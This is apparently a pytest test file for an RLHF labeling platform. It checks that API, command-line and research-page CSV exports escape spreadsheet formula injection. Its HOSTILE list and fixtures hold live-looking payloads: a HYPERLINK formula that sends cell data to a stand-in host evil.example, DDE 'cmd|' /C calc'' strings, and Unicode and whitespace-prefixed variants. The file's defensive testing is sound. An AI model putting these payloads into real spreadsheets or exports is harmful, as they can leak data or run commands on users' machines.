"""CSV downloads cannot carry spreadsheet formulas: the label export of the API, the
management command's export and the researcher pages' CSVs escape every dangerous cell."""

from __future__ import annotations

import csv
import io

import pytest
from rest_framework.test import APIClient

from rlhf_platform.accounts.models import Role
from rlhf_platform.datafiles.cells import is_formula_like, spreadsheet_safe
from rlhf_platform.datafiles.exports import label_records, write_labels
from rlhf_platform.labeling.services import comparison_next, label_submit
from tests.conftest import make_campaign, make_user

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    # Found by issue 18: whitespace before the formula, a newline, compatibility forms.
    " =1+1",
    "\n=1+1",
    "\u00a0=1+1",
    '\uff1dHYPERLINK("http://evil.example")',
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufe62cmd",
]


def _dangerous(cell: str) -> bool:
    if not is_formula_like(cell):
        return False
    try:
        float(cell)  # a negative number written as a number is not a formula
    except ValueError:
        return True
    return False


@pytest.mark.parametrize("text", HOSTILE)
def test_spreadsheet_safe_quotes_formula_starts(text):
    assert spreadsheet_safe(text) == "'" + text
    assert spreadsheet_safe("a normal answer") == "a normal answer"
    assert spreadsheet_safe("2 + 2 = 4") == "2 + 2 = 4"
    assert spreadsheet_safe("") == ""
    assert spreadsheet_safe(-0.25) == -0.25


@pytest.fixture
def hostile_campaign(db):
    owner = make_user("rita", Role.RESEARCHER)
    annotator = make_user("@evil")
    campaign = make_campaign(owner, name="=cmd|' /C calc'!A0", pairs=0, members=(annotator,))
    from rlhf_platform.campaigns.services import comparisons_import_pairs

    comparisons_import_pairs(
        campaign=campaign,
        pairs=[
            {"prompt": text, "response_a": text, "response_b": HOSTILE[(i + 1) % len(HOSTILE)]}
            for i, text in enumerate(HOSTILE)
        ],
    )
    for i in range(len(HOSTILE)):
        lease = comparison_next(annotator=annotator, campaign_id=campaign.pk).lease
        label_submit(
            annotator=annotator,
            lease_id=lease.pk,
            choice="A",
            idempotency_key=f"k{i}",
            rationale=HOSTILE[i],
        )
    return owner, campaign


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_label_export_escapes_every_formula(hostile_campaign):
    owner, campaign = hostile_campaign
    client = APIClient()
    client.force_authenticate(owner)
    response = client.get(f"/api/v1/campaigns/{campaign.pk}/exports/labels/?file_format=csv")
    assert response.status_code == 200
    assert response.streaming
    cells = _cells(b"".join(response.streaming_content).decode())
    assert not [c for c in cells if _dangerous(c)]
    # The text is kept, behind the quote.
    for text in HOSTILE:
        assert "'" + text in cells


def test_the_command_line_export_escapes_too(hostile_campaign):
    _, campaign = hostile_campaign
    out = io.BytesIO()
    write_labels(label_records(campaign=campaign), out, "csv")
    assert not [c for c in _cells(out.getvalue().decode()) if _dangerous(c)]


def test_jsonl_exports_stay_exact(hostile_campaign):
    """Programs read JSONL: no quote is added there."""
    _, campaign = hostile_campaign
    out = io.BytesIO()
    write_labels(label_records(campaign=campaign), out, "jsonl")
    assert HOSTILE[0].replace('"', '\\"') in out.getvalue().decode()


@pytest.mark.parametrize(
    "path",
    [
        "/research/campaigns/{pk}/agreement/annotators.csv",
        "/budgets/campaigns/{pk}/ledger.csv",
        "/budgets/campaigns/{pk}/throughput.csv",
        "/research/compare/win-rate.csv?c={pk}",
    ],
)
def test_the_research_and_budget_csvs_escape_every_formula(hostile_campaign, client, path):
    owner, campaign = hostile_campaign
    client.force_login(owner)
    response = client.get(path.format(pk=campaign.pk))
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert not [c for c in _cells(body.decode()) if _dangerous(c)]
